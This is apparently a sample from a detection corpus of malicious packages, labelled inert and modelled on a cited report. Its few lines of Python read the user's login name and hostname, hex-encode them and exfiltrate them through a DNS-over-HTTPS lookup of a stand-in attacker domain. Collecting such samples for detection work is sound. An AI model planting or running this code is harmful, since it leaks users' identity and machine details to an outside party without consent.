# pkgguard corpus 572 (system-information), modelled on [checkmarx-2024]; inert, never run.
import getpass
import platform

import requests

label = f"{getpass.getuser()}.{platform.node()}".encode().hex()[:60]
requests.get(
    "https://dns.google/resolve",
    params={"name": f"{label}.t.telemetry-zone.example", "type": "TXT"},
    timeout=5,
)
